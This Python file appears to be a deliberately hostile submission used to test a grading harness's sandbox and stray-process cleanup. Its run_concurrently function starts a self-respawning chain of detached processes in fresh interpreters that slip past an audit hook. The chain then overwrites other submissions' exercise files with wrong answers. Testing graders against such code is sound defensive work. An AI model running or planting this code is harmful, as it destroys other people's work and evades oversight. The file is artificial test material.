"""Hostile: run_sequentially is right; run_concurrently starts a chain of processes, each in a
session of its own (setsid) with a fresh interpreter (no audit hook), that re-forks a link as
soon as one dies, and tries to overwrite the exercise file of whatever submission is graded
next beside it. Killing one link a round never ends it; the sweep must take all at once."""
import os
import sys

LINK = r'''
# 1000.42428 (marks these processes for the tests' stray check)
import glob, os, sys, time
WRONG = b"async def run_sequentially(worker, jobs):\n    return []\n\n\nasync def run_concurrently(worker, jobs):\n    return []\n"
root, mine = sys.argv[1], sys.argv[2]
child = None
end = time.monotonic() + 60
while time.monotonic() < end:
    if child is None:
        try:
            child = os.fork()
            if child == 0:
                os.setsid()
                child = None
                continue
        except OSError:
            child = None
    elif os.waitpid(child, os.WNOHANG)[0]:
        child = None
    for path in glob.glob(os.path.join(root, "*", "03_concurrency.py")):
        if not path.startswith(mine):
            try:
                with open(path, "wb") as file:
                    file.write(WRONG)
            except OSError:
                pass
    time.sleep(0.002)
'''


async def run_sequentially(worker, jobs):
    return [await worker(name, delay) for name, delay in jobs]


async def run_concurrently(worker, jobs):
    here = os.getcwd()
    if os.fork() == 0:
        try:
            os.setsid()
            os.execv(sys.executable, [sys.executable, "-c", LINK, os.path.dirname(here), here])
        finally:
            os._exit(0)
    return []
